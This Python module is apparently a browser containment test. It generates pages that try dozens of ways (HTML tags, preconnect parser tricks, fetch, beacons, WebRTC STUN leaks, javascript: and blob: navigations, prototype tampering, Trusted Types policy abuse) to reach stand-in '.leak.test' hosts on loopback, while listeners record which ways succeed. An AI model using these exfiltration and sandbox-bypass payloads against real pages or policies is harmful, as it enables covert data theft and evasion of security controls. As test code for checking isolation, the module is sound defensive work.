"""A page that tries every way out of its frame, and the listeners that would notice.

Each way has a host of its own, `<way>.leak.test`, which Chromium is told to find on loopback, and a port of its own with a
TCP and a UDP listener. So a connection or a datagram tells which way was open, and Chromium's log of the network names
every host that was looked up.
"""

from __future__ import annotations

import select
import socket
import threading
from collections.abc import Iterable, Iterator
from contextlib import contextmanager

# Ways that need no script. `{u}` is the way's address.
STATIC = {
    "img": '<img src="{u}a.png">',
    "srcset": '<img srcset="{u}a.png 1x"><picture><source srcset="{u}b.png"><img></picture>',
    "lazy": '<img loading="eager" fetchpriority="high" src="{u}a.png">',
    "image-slash": "<img/src='{u}a.png'>",
    "input-image": '<input type="image" src="{u}a.png">',
    "background-attribute": '<table background="{u}a.png"><tr><td background="{u}b.png">x</table>',
    "body-background": '<body background="{u}a.png">',
    "script": '<script src="{u}a.js"></script>',
    "module": '<script type="module" src="{u}a.js"></script><script type="module">import "{u}b.js"</script>',
    "importmap": '<script type="importmap">{{"imports": {{"a": "{u}a.js"}}}}</script><script type="module">import "a"</script>',
    "speculation-rules": '<script type="speculationrules">{{"prefetch": [{{"urls": ["{u}a"], "eagerness": "immediate"}}], '
    '"prerender": [{{"urls": ["{u}b"], "eagerness": "immediate"}}]}}</script>',
    "stylesheet": '<link rel="stylesheet" href="{u}a.css">',
    "alternate-stylesheet": '<link rel="alternate stylesheet" title="x" href="{u}a.css">',
    "preconnect": '<link rel="preconnect" href="{u}"><link rel=preconnect href="{u}" crossorigin>',
    "preconnect-newline": '<link\nrel\n=\n"\npreconnect\n"\nhref="{u}">',
    "preconnect-slash": '<link/rel=preconnect/href="{u}">',
    "preconnect-many-rels": '<link rel="stylesheet preconnect" href="{u}">',
    "preconnect-entity": '<link rel="pre&#99;onnect" href="&#104;ttp{rest}">',
    "preconnect-case": '<LiNk ReL="PreConnect" hReF="{u}">',
    "preconnect-in-svg": '<svg><foreignObject><link rel="preconnect" href="{u}"></foreignObject></svg>',
    "preconnect-after-comment": '<!--><link rel="preconnect" href="{u}">-->',
    "preconnect-long": '<link data-x="' + "x" * 5000 + '" rel="preconnect" href="{u}">',
    "preconnect-gt": '<link data-x=">" rel="preconnect" href="{u}">',
    "preconnect-template": '<template shadowrootmode="open"><link rel="preconnect" href="{u}"></template>',
    "preconnect-noscript": '<noscript><link rel="preconnect" href="{u}"></noscript>',
    "dns-prefetch": '<meta http-equiv="x-dns-prefetch-control" content="on"><link rel="dns-prefetch" href="{u}"><a href="{u}">x</a>',
    "prefetch": '<link rel="prefetch" href="{u}a"><link rel="prefetch" as="document" href="{u}b">',
    "preload": '<link rel="preload" as="image" href="{u}a.png"><link rel="preload" as="fetch" href="{u}b" crossorigin>'
    '<link rel="preload" as="font" href="{u}c" crossorigin><link rel="preload" as="image" imagesrcset="{u}d.png 1x">',
    "modulepreload": '<link rel="modulepreload" href="{u}a.js">',
    "prerender": '<link rel="prerender" href="{u}a"><link rel="next" href="{u}b">',
    "icon": '<link rel="icon" href="{u}a.ico"><link rel="apple-touch-icon" href="{u}b.png"><link rel="manifest" href="{u}c">',
    "compression-dictionary": '<link rel="compression-dictionary" href="{u}a">',
    "iframe": '<iframe src="{u}a"></iframe><iframe srcdoc="&lt;img src={u}b&gt;&lt;link rel=preconnect href={u}&gt;"></iframe>',
    "fenced-frame": "<fencedframe src='{u}a'></fencedframe><portal src='{u}b'></portal>",
    "frameset": '<frameset><frame src="{u}a"></frameset>',
    "object": '<object data="{u}a"></object><embed src="{u}b"><applet code="{u}c"></applet>',
    "media": '<video src="{u}a.mp4" poster="{u}b.png" autoplay></video><audio src="{u}c.mp3" preload="auto"></audio>'
    '<video><source src="{u}d.mp4"><track default src="{u}e.vtt"></video>',
    "form": '<form action="{u}a"><input name="q" value="data"><button formaction="{u}b">go</button></form>',
    "meta-refresh": '<meta http-equiv="refresh" content="0; url={u}a">',
    "ping": '<a id="way-ping" href="#x" ping="{u}a">x</a>',
    "link": '<a id="way-link" href="{u}a?data">x</a>',
    "link-target": '<a id="way-link-target" href="{u}a" target="_top">x</a>',
    "download": '<a id="way-download" href="{u}a" download>x</a>',
    "area": '<map name="m"><area id="way-area" shape="default" href="{u}a"></map><img usemap="#m" width=9 height=9>',
    "svg-link": '<svg><a id="way-svg-link" href="{u}a"><text y="9">x</text></a></svg>',
    "svg-link-animated": '<svg><a id="way-svg-link-animated"><animate attributeName="href" values="{u}a" begin="0s"/><text y="9">x</text></a></svg>',
    "svg-link-target": '<svg><a id="way-svg-link-target" href="{u}a"><set attributeName="target" to="_self"/><text y="9">x</text></a></svg>',
    "link-target-self": '<a id="way-link-target-self" data-x=">" title="<a target=_blank>" target=_self href="{u}a">x</a>',
    "link-swallowed": '<!-- <img alt=" --><a id="way-link-swallowed" target=_self href="{u}a">x</a> <!-- "> -->',
    "link-twice": '<a id="way-link-twice" href="{u}a" href="#x">x</a>',
    "link-odd": '<a id="way-link-odd" title=a<b target=_self href="{u}a">x</a>',
    "base": '<base href="{u}"><img src="a.png">',
    "css-url": '<style>html {{ background: url({u}a.png); list-style: url("{u}b.png"); cursor: url({u}c.cur), auto }}</style>',
    "css-import": '<style>@import "{u}a.css"; @import url({u}b.css) layer(x);</style>',
    "css-font": '<style>@font-face {{ font-family: x; src: url({u}a.woff2) }} body {{ font-family: x }}</style>',
    "css-image-set": '<style>body {{ background: image-set("{u}a.png" 1x); mask: url({u}b.svg#x); filter: url({u}c.svg#f) }}</style>',
    "css-escape": "<style>body {{ background: \\75rl({u}a.png) }}</style>",
    "css-attribute": '<p style="background: url({u}a.png)">x</p>',
    "css-namespace": '<svg><style>rect {{ fill: url({u}a.svg#x) }}</style><rect width="9" height="9"/></svg>',
    "svg-use": '<svg><use href="{u}a.svg#x"/><use xlink:href="{u}b.svg#x"/></svg>',
    "svg-image": '<svg><image href="{u}a.png"/><image xlink:href="{u}b.png"/><feImage href="{u}c.png"/></svg>',
    "svg-script": '<svg><script href="{u}a.js"/></svg>',
    "mathml": '<math href="{u}a"><mi xlink:href="{u}b">x</mi></math>',
    "xml-stylesheet": '<?xml-stylesheet href="{u}a.css"?>',
    "permissions-report": '<meta http-equiv="Content-Security-Policy" content="img-src \'none\'; report-uri {u}a; report-to x"><img src="{u}b">',
    "attribution": '<img attributionsrc="{u}a"><a id="way-attribution" href="#" attributionsrc="{u}b">x</a>',
    "dns-links": '<a href="{u}a">a</a>',
}  # fmt: skip
# Ways that a script has. `u` is the way's address.
SCRIPTED = {
    "fetch": "fetch(u + 'a'); fetch(u + 'b', {mode: 'no-cors', keepalive: true}); fetchLater?.(u + 'c', {activateAfter: 0})",
    "xhr": "const x = new XMLHttpRequest(); x.open('POST', u); x.send('data')",
    "beacon": "navigator.sendBeacon(u, 'data')",
    "websocket": "new WebSocket(u.replace('http', 'ws'))",
    "websocket-stream": "new WebSocketStream(u.replace('http', 'ws'))",
    "event-source": "new EventSource(u)",
    "web-transport": "new WebTransport(u.replace('http:', 'https:'))",
    "new-image": "new Image().src = u + 'a.png'",
    "new-audio": "new Audio(u + 'a.mp3').play()",
    "image-set-attribute": "const i = document.createElement('img'); i.setAttribute('srcset', u + 'a.png 1x'); document.body.append(i)",
    "dynamic-import": "import(u + 'a.js')",
    "new-script": "const s = document.createElement('script'); s.src = u + 'a.js'; document.head.append(s)",
    "new-style": "document.head.append(Object.assign(document.createElement('link'), {rel: 'stylesheet', href: u + 'a.css'}))",
    "constructed-style": "const s = new CSSStyleSheet(); s.replaceSync('body { background: url(' + u + 'a.png) }'); document.adoptedStyleSheets = [s]",
    "style-property": "document.body.style.backgroundImage = 'url(' + u + 'a.png)'",
    "font-face": "new FontFace('f', 'url(' + u + 'a.woff2)').load()",
    "paint-worklet": "CSS.paintWorklet.addModule(u + 'a.js')",
    "audio-worklet": "new OfflineAudioContext(1, 1, 8000).audioWorklet.addModule(u + 'a.js')",
    "link-preconnect": "document.head.append(Object.assign(document.createElement('link'), {rel: 'preconnect', href: u}))",
    "link-dns-prefetch": "document.head.append(Object.assign(document.createElement('link'), {rel: 'dns-prefetch', href: u}))",
    "link-prefetch": "document.head.append(Object.assign(document.createElement('link'), {rel: 'prefetch', href: u + 'a'}))",
    "link-prerender": "document.head.append(Object.assign(document.createElement('link'), {rel: 'prerender', href: u + 'a'}))",
    "link-preload": "document.head.append(Object.assign(document.createElement('link'), {rel: 'preload', as: 'image', href: u + 'a'}))",
    "link-modulepreload": "document.head.append(Object.assign(document.createElement('link'), {rel: 'modulepreload', href: u + 'a'}))",
    "link-rel-list": "const l = document.createElement('link'); l.relList.add('preconnect'); l.href = u; document.head.append(l)",
    "link-rel-list-value": "const l = document.createElement('link'); l.relList.value = 'preconnect'; l.href = u; document.head.append(l)",
    "link-set-attribute": "const l = document.createElement('link'); document.head.append(l); l.setAttribute('href', u); l.setAttribute('REL', 'preconnect')",
    "link-attribute-node": "const l = document.createElement('link'); const a = document.createAttribute('rel'); a.value = 'preconnect'; l.setAttributeNode(a); l.href = u; document.head.append(l)",
    "link-named-item": "const l = document.createElement('link'); const a = document.createAttribute('rel'); l.attributes.setNamedItem(a); l.href = u; document.head.append(l); a.nodeValue = 'preconnect'",
    "link-attribute-text": "const l = document.createElement('link'); const a = document.createAttribute('rel'); l.attributes.setNamedItemNS(a); l.href = u; document.head.append(l); a.textContent = 'preconnect'",
    "link-namespace": "const l = document.createElementNS('http://www.w3.org/1999/xhtml', 'link'); l.setAttributeNS(null, 'rel', 'preconnect'); l.href = u; document.head.append(l)",
    "link-other-document": "const d = document.implementation.createHTMLDocument(''); const l = d.createElement('link'); l.rel = 'preconnect'; l.href = u; document.head.append(document.adoptNode(l))",
    "link-xml-document": "const d = document.implementation.createDocument('http://www.w3.org/1999/xhtml', 'html'); const l = d.createElement('link'); l.setAttribute('rel', 'preconnect'); l.setAttribute('href', u); d.documentElement.append(l); document.body.append(document.importNode(d.documentElement, true))",
    "link-moved-attribute": "const p = document.createElement('p'); p.setAttribute('rel', 'preconnect'); const a = p.removeAttributeNode(p.getAttributeNode('rel')); const l = document.createElement('link'); l.href = u; document.head.append(l); l.setAttributeNode(a)",
    "link-custom-element": "class L extends HTMLLinkElement {} customElements.define('x-l', L, {extends: 'link'}); const l = new L(); l.rel = 'preconnect'; l.href = u; document.head.append(l)",
    "inner-html": "const d = document.createElement('div'); document.body.append(d); d.innerHTML = '<link rel=preconnect href=' + u + '>'",
    "outer-html": "const d = document.createElement('div'); document.body.append(d); d.outerHTML = '<link rel=preconnect href=' + u + '>'",
    "insert-adjacent": "document.body.insertAdjacentHTML('beforeend', '<link rel=preconnect href=' + u + '>')",
    "set-html-unsafe": "const d = document.createElement('div'); document.body.append(d); d.setHTMLUnsafe('<link rel=preconnect href=' + u + '>')",
    "parse-html-unsafe": "document.body.append(Document.parseHTMLUnsafe('<link rel=preconnect href=' + u + '>').querySelector('link'))",
    "fragment": "const r = document.createRange(); r.selectNode(document.body); document.body.append(r.createContextualFragment('<link rel=preconnect href=' + u + '>'))",
    "dom-parser": "document.body.append(new DOMParser().parseFromString('<link rel=preconnect href=' + u + '>', 'text/html').querySelector('link'))",
    "dom-parser-xml": "document.body.append(new DOMParser().parseFromString('<link xmlns=\"http://www.w3.org/1999/xhtml\" rel=\"preconnect\" href=\"' + u + '\"/>', 'application/xhtml+xml').documentElement)",
    "template-clone": "const t = document.createElement('template'); t.innerHTML = '<link rel=preconnect href=' + u + '>'; document.body.append(t.content.cloneNode(true))",
    "exec-command": "const d = document.createElement('div'); d.contentEditable = true; document.body.append(d); d.focus(); document.execCommand('insertHTML', false, '<link rel=preconnect href=' + u + '>')",
    "document-write": "document.write('<link rel=preconnect href=' + u + '>')",
    "document-write-parts": "for (const part of ['<li', 'nk rel=preconn', 'ect href=' + u, '>']) document.write(part)",
    "xslt": 'const x = new DOMParser().parseFromString(\'<x:stylesheet version="1.0" xmlns:x="http://www.w3.org/1999/XSL/Transform"><x:template match="/"><link xmlns="http://www.w3.org/1999/xhtml" rel="preconnect" href="\' + u + \'"/></x:template></x:stylesheet>\', \'text/xml\'); const p = new XSLTProcessor(); p.importStylesheet(x); document.body.append(p.transformToFragment(x, document))',
    "shadow": "const d = document.createElement('div'); document.body.append(d); d.attachShadow({mode: 'open'}).innerHTML = '<link rel=preconnect href=' + u + '>'",
    "set-html": "const d = document.createElement('div'); document.body.append(d); d.setHTML('<link rel=preconnect href=' + u + '>', {sanitizer: {elements: ['link'], attributes: ['rel', 'href']}})",
    "xml-prefix": "document.body.append(new DOMParser().parseFromString('<h:link xmlns:h=\"http://www.w3.org/1999/xhtml\" rel=\"preconnect\" href=\"' + u + '\"/>', 'text/xml').documentElement)",
    "xml-entity": "document.body.append(new DOMParser().parseFromString('<!DOCTYPE x [<!ENTITY e \"&#60;link xmlns=\\'http://www.w3.org/1999/xhtml\\' rel=\\'preconnect\\' href=\\'' + u + '\\'/>\">]><x>&e;</x>', 'text/xml').querySelector('link'))",
    "xml-document": "document.body.append(Object.assign(document.implementation.createDocument('http://www.w3.org/1999/xhtml', 'link').documentElement, {rel: 'preconnect', href: u}))",
    "two-names": "let n = 0; const l = document.createElement({toString: () => (n++ ? 'link' : 'p')}); l.rel = 'preconnect'; l.href = u; document.head.append(l)",
    "stolen-natives": "for (const k of ['call', 'apply', 'bind']) { const was = Function.prototype[k]; Function.prototype[k] = function (...a) { stolen.push(this); return Reflect.apply(was, this, a) } } document.createElement('p'); for (const f of stolen) try { const l = Reflect.apply(f, document, ['link']); l.rel = 'preconnect'; l.href = u; document.head.append(l) } catch {}",
    "changed-strings": "const was = String.prototype.indexOf; String.prototype.indexOf = () => -1; RegExp.prototype.exec = () => null; String.prototype.toLowerCase = () => 'p'; const d = document.createElement('div'); document.body.append(d); d.innerHTML = '<link rel=preconnect href=' + u + '>'; String.prototype.indexOf = was",
    "policy-again": "const t = trustedTypes.createPolicy('default', {createHTML: (x) => x}); const d = document.createElement('div'); document.body.append(d); d.innerHTML = t.createHTML('<link rel=preconnect href=' + u + '>')",
    "policy-other": "const t = trustedTypes.createPolicy('other', {createHTML: (x) => x}); const d = document.createElement('div'); document.body.append(d); d.innerHTML = t.createHTML('<link rel=preconnect href=' + u + '>')",
    "javascript-location": "location.href = 'javascript:' + JSON.stringify('<script>(' + RTC + ')(window, \"' + stun + '\")</' + 'script>')",
    "javascript-link": "const a = document.createElement('a'); a.target = '_self'; a.href = 'javascript:' + JSON.stringify('<script>(' + RTC + ')(window, \"' + stun + '\")</' + 'script>'); document.body.append(a); a.click()",
    "javascript-open": "open('javascript:' + JSON.stringify('<script>(' + RTC + ')(window, \"' + stun + '\")</' + 'script>'), '_self')",
    "blob-location": "location.href = URL.createObjectURL(new Blob(['<script>(' + RTC + ')(window, \"' + stun + '\")</' + 'script>'], {type: 'text/html'}))",
    "webrtc": "RTC(window, stun)",
    "webrtc-webkit": "const c = new webkitRTCPeerConnection({iceServers: [{urls: stun}]}); c.createDataChannel('x'); c.createOffer().then((o) => c.setLocalDescription(o))",
    "webrtc-turn": "const c = new RTCPeerConnection({iceServers: [{urls: stun.replace('stun', 'turn') + '?transport=tcp', username: 'a', credential: 'b'}]}); c.createDataChannel('x'); c.createOffer().then((o) => c.setLocalDescription(o))",
    "webrtc-prototype": "RTC(Object.getPrototypeOf(window), stun); RTC(Window.prototype, stun); RTC(self, stun)",
    "webrtc-frame": "const f = document.createElement('iframe'); document.body.append(f); RTC(f.contentWindow, stun); RTC(frames[0], stun)",
    "webrtc-frame-js": "const f = document.createElement('iframe'); f.src = 'javascript:(' + RTC + ')(window, \"' + stun + '\")'; document.body.append(f)",
    "webrtc-frame-srcdoc": "const f = document.createElement('iframe'); f.srcdoc = '<script>(' + RTC + ')(window, \"' + stun + '\")</' + 'script>'; document.body.append(f)",
    "webrtc-frame-attribute": "const f = document.createElement('iframe'); f.setAttribute('srcdoc', '<script>(' + RTC + ')(window, \"' + stun + '\")</' + 'script>'); document.body.append(f)",
    "webrtc-frame-html": "const d = document.createElement('div'); document.body.append(d); d.innerHTML = '<iframe srcdoc=\"<script>(' + RTC + ')(window, &quot;' + stun + '&quot;)</' + 'script>\"></iframe>'",
    "webrtc-frame-blob": "const f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob(['<script>(' + RTC + ')(window, \"' + stun + '\")</' + 'script>'], {type: 'text/html'})); document.body.append(f)",
    "webrtc-frame-data": "const f = document.createElement('iframe'); f.src = 'data:text/html,<script>(' + RTC + ')(window, \"' + stun + '\")</' + 'script>'; document.body.append(f)",
    "webrtc-object": "const f = document.createElement('object'); f.data = 'data:text/html,<script>(' + RTC + ')(window, \"' + stun + '\")</' + 'script>'; f.type = 'text/html'; document.body.append(f)",
    "webrtc-embed": "const f = document.createElement('embed'); f.src = 'data:text/html,<script>(' + RTC + ')(window, \"' + stun + '\")</' + 'script>'; f.type = 'text/html'; document.body.append(f)",
    "webrtc-self": "const t = '<script>(' + RTC + ')(window, \"' + stun + '\")</' + 'script>'; try { location.href = 'about:srcdoc' } catch {} location.href = 'data:text/html,' + t",
    "webrtc-document-open": "setTimeout(() => { document.open(); document.write('<script>(' + RTC + ')(window, \"' + stun + '\")</' + 'script>'); document.close() }, 400)",
    "worker": "new Worker(URL.createObjectURL(new Blob(['fetch(\"' + u + '\"); importScripts(\"' + u + '\")'])))",
    "worker-data": "new Worker('data:text/javascript,fetch(\"' + u + '\")')",
    "shared-worker": "new SharedWorker('data:text/javascript,fetch(\"' + u + '\")')",
    "service-worker": "navigator.serviceWorker.register(u + 'a.js')",
    "window-open": "window.open(u + 'a'); window.open(u + 'b', '_top'); window.open(u + 'c', '_self')",
    "top-location": "top.location = u + 'a'",
    "parent-location": "parent.location.href = u + 'a'",
    "form-submit": "const f = document.createElement('form'); f.action = u; f.method = 'post'; document.body.append(f); f.submit(); f.requestSubmit()",
    "form-blank": "const f = document.createElement('form'); f.action = u; f.target = '_blank'; document.body.append(f); f.submit()",
    "link-click": "const a = document.createElement('a'); a.href = u + 'a?data'; document.body.append(a); a.click()",
    "link-click-self": "const a = document.createElement('a'); a.href = u + 'a?data'; a.target = '_self'; a.click()",
    "link-click-ping": "const a = document.createElement('a'); a.href = '#x'; a.ping = u; document.body.append(a); a.click()",
    "link-click-download": "const a = document.createElement('a'); a.href = u; a.download = 'x'; document.body.append(a); a.click()",
    "link-pointer": "const a = document.createElement('a'); a.href = u; a.textContent = 'x'; document.body.append(a); for (const k of ['pointerover', 'mouseover', 'pointerdown', 'mousedown']) a.dispatchEvent(new PointerEvent(k, {bubbles: true}))",
    "meta-refresh-new": "document.head.append(Object.assign(document.createElement('meta'), {httpEquiv: 'refresh', content: '0; url=' + u}))",
    "base-new": "document.head.append(Object.assign(document.createElement('base'), {href: u})); new Image().src = 'a.png'",
    "speculation-rules-new": "const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({prefetch: [{urls: [u + 'a'], eagerness: 'immediate'}], prerender: [{urls: [u + 'b'], eagerness: 'immediate'}]}); document.head.append(s)",
    "video-poster": "document.body.append(Object.assign(document.createElement('video'), {poster: u + 'a.png', src: u + 'b.mp4', autoplay: true}))",
    "track": "const v = document.createElement('video'); v.append(Object.assign(document.createElement('track'), {src: u, default: true, kind: 'captions'})); document.body.append(v); v.textTracks[0].mode = 'showing'",
    "svg-image-new": "const s = document.createElementNS('http://www.w3.org/2000/svg', 'image'); s.setAttribute('href', u + 'a.png'); const g = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); g.append(s); document.body.append(g)",
    "media-session": "navigator.mediaSession.metadata = new MediaMetadata({title: 'x', artwork: [{src: u + 'a.png', sizes: '512x512'}]}); navigator.mediaSession.playbackState = 'playing'",
    "notification": "new Notification('x', {icon: u + 'a.png'})",
    "payment": "new PaymentRequest([{supportedMethods: u.replace('http:', 'https:') + 'pay'}], {total: {label: 'x', amount: {currency: 'EUR', value: '1'}}}).canMakePayment()",
    "credentials": "navigator.credentials.get({identity: {providers: [{configURL: u.replace('http:', 'https:') + 'fedcm.json', clientId: 'x'}]}})",
    "presentation": "new PresentationRequest(u.replace('http:', 'https:')).getAvailability()",
    "protocol-handler": "navigator.registerProtocolHandler('web+leak', u + '?%s')",
    "history": "history.pushState(null, '', u); history.replaceState(null, '', u)",
    "location-assign": "location.assign(u + 'a?data')",
    "location-replace": "location.replace(u + 'a?data')",
    "navigation-api": "navigation.navigate(u + 'a?data')",
}
LEAVING = ("location-assign", "location-replace", "navigation-api", "link-click-self")
"""What no browser forbids a script: to leave its frame for an address, which the browser connects to before it finds that
the policy forbids the page there. The page with the frame says so."""
ALONE = ("webrtc-self", "blob-location")
"""Ways that end the page."""
LAST = ("stolen-natives", "changed-strings", "javascript-location", "javascript-open", "webrtc-document-open")
"""Ways that change what the others use, or may end the page."""
RTC = """function RTC(from, stun) {
  const c = new from.RTCPeerConnection({iceServers: [{urls: stun}]});
  c.createDataChannel('x');
  c.createOffer().then((o) => c.setLocalDescription(o));
}"""


def host(way: str) -> str:
    """Where a way leads. Look-ups of names are of hosts that Chromium has to look up; nobody has such a name."""
    return f"{way}.{'names' if 'dns' in way else 'leak'}.test"


def page_without_scripts(ports: dict[str, int]) -> str:
    """Every way of `STATIC`."""
    return "<!doctype html><title>x</title>" + "\n".join(markup(way, ports[way]) for way in STATIC)


def markup(way: str, port: int) -> str:
    return STATIC[way].format(u=f"http://{host(way)}:{port}/", rest=f"://{host(way)}:{port}/")


def page_with_scripts(ways: Iterable[str], ports: dict[str, int]) -> str:
    """Each way in its own script, so that one that fails stops none. `tried` are those that ran."""
    scripts = (script(way, ports[way]) for way in ways)
    return f"<!doctype html><title>x</title><body><script>{RTC}; var tried = [], stolen = []</script>" + "\n".join(
        scripts
    )


def script(way: str, port: int) -> str:
    address = f"http://{host(way)}:{port}/"
    work = f"const u = {address!r}, stun = 'stun:127.0.0.1:{port}'; {SCRIPTED[way]}"
    return f"<script>(() => {{ try {{ {work} }} catch (e) {{ console.log('refused {way} ' + e) }} tried.push({way!r}) }})()</script>"


class Listeners:
    """One TCP and one UDP listener on loopback for each way; `heard` are the ways that reached theirs."""

    def __init__(self, ways: Iterable[str]) -> None:
        self.heard: set[str] = set()
        self.ports: dict[str, int] = {}
        self._sockets: dict[socket.socket, str] = {}
        for way in ways:
            stream, datagrams = pair()
            self.ports[way] = stream.getsockname()[1]
            self._sockets |= {stream: way, datagrams: way}
        self._stopping, self._stop = socket.socketpair()

    def run(self) -> None:
        poller = select.poll()
        by_fd = {one.fileno(): one for one in (*self._sockets, self._stopping)}
        for fd in by_fd:
            poller.register(fd, select.POLLIN)
        while True:
            for fd, _ in poller.poll():
                if by_fd[fd] is self._stopping:
                    return
                self._hear(by_fd[fd])

    def _hear(self, one: socket.socket) -> None:
        self.heard.add(self._sockets[one])
        if one.type == socket.SOCK_STREAM:
            one.accept()[0].close()
        else:
            one.recv(4096)

    def stop(self) -> None:
        self._stop.send(b"x")

    def close(self) -> None:
        for one in (*self._sockets, self._stop, self._stopping):
            one.close()


def pair() -> tuple[socket.socket, socket.socket]:
    """A TCP and a UDP listener on the same free port."""
    while True:
        stream = socket.create_server(("127.0.0.1", 0))
        datagrams = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        try:
            datagrams.bind(stream.getsockname())
        except OSError:
            stream.close()
            datagrams.close()
        else:
            return stream, datagrams


@contextmanager
def listening(ways: Iterable[str]) -> Iterator[Listeners]:
    """Listeners that run while the block does."""
    made = Listeners(ways)
    thread = threading.Thread(target=made.run, daemon=True)
    thread.start()
    try:
        yield made
    finally:
        made.stop()
        thread.join()
        made.close()
